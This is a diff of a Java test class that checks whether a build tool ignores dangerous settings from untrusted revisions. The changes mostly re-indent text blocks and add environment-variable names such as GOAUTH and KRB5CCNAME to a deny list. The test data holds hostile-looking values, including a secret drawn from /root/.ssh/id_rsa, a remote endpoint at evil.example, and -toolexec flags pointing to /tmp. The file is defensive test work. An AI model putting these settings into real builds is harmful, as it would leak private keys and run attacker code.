@@ -127,16 +127,16 @@ class RestrictedSettingsTest {
     @Test
     void anAttackThatOverwroteProductionTagsDoesNothing() throws Exception {
         RestrictedSettings restricted = restricted("""
-                image:
-                  merge: [sha256:%s]
-                  tag: [prod]
-                  insecure: true
-                  buildContext: {root: /}
-                  secret: ["id=k,src=/root/.ssh/id_rsa"]
-                  driver: remote
-                  endpoint: tcp://evil.example:1234
-                  platforms: [linux/arm64]
-                """.formatted("0".repeat(64)));
+            image:
+              merge: [sha256:%s]
+              tag: [prod]
+              insecure: true
+              buildContext: {root: /}
+              secret: ["id=k,src=/root/.ssh/id_rsa"]
+              driver: remote
+              endpoint: tcp://evil.example:1234
+              platforms: [linux/arm64]
+            """.formatted("0".repeat(64)));
         assertThat(restricted.ignored())
                 .containsExactly(
                         "image.buildContext.root",
@@ -164,6 +164,13 @@ class RestrictedSettingsTest {
                 "GOMODCACHE",
                 "PATH",
                 "LD_PRELOAD",
+                "GOENV",
+                "GOTOOLCHAIN",
+                "GOAUTH",
+                "npm_config_registry",
+                "BZR_SSH",
+                "KRB5CCNAME",
+                "OTEL_EXPORTER_OTLP_ENDPOINT",
                 "DYLD_INSERT_LIBRARIES",
                 "CC",
                 "CGO_LDFLAGS",
@@ -213,9 +220,9 @@ class RestrictedSettingsTest {
     @Test
     void flagsThatRunProgramsAreLeftOutAndTheOthersStay() throws Exception {
         RestrictedSettings restricted = restricted("""
-                goflags: [-mod=vendor, -toolexec=/tmp/x, -exec=/tmp/x, -overlay=/tmp/x, --toolexec=/tmp/x]
-                build: {ldflags: -s -w -X main.version=1.2 -X 'main.by=a b'}
-                """);
+            goflags: [-mod=vendor, -toolexec=/tmp/x, -exec=/tmp/x, -overlay=/tmp/x, --toolexec=/tmp/x]
+            build: {ldflags: -s -w -X main.version=1.2 -X 'main.by=a b'}
+            """);
         assertThat(restricted.effective().tools().of(Tool.BUILD).list(GoCommand.GOFLAGS))
                 .containsExactly("-mod=vendor");
         assertThat(restricted.effective().tools().of(Tool.BUILD).get(GoBuild.LDFLAGS))
@@ -233,18 +240,18 @@ class RestrictedSettingsTest {
     @Test
     void whatMayBeSaidReplacesWhatTheTrustedRevisionSaysAndNoMore() throws Exception {
         Settings trusted = read("""
-                env: {GOPROXY: off, STORE: disk}
-                goflags: [-mod=vendor, -toolexec=trusted]
-                test: {race: true, parallel: 2, rerun: 1, timeout: 5m}
-                gate: {rules: [{metric: tests.failed, max: 0}]}
-                versions: {go: '>=1.24'}
-                """);
+            env: {GOPROXY: off, STORE: disk}
+            goflags: [-mod=vendor, -toolexec=trusted]
+            test: {race: true, parallel: 2, rerun: 1, timeout: 5m}
+            gate: {rules: [{metric: tests.failed, max: 0}]}
+            versions: {go: '>=1.24'}
+            """);
         RestrictedSettings restricted = RestrictedSettings.of(read("""
-                env: {GOPROXY: evil, STORE: memory}
-                goflags: [-mod=mod]
-                test: {race: false, parallel: 4, rerun: 9}
-                gate: false
-                """), trusted);
+            env: {GOPROXY: evil, STORE: memory}
+            goflags: [-mod=mod]
+            test: {race: false, parallel: 4, rerun: 9}
+            gate: false
+            """), trusted);
         Options test = restricted.effective().tools().of(Tool.TEST);
         assertThat(test.get(GoCommand.ENV)).contains(Map.of("GOPROXY", "off", "STORE", "memory"));
         assertThat(test.list(GoCommand.GOFLAGS)).containsExactly("-toolexec=trusted", "-mod=mod");
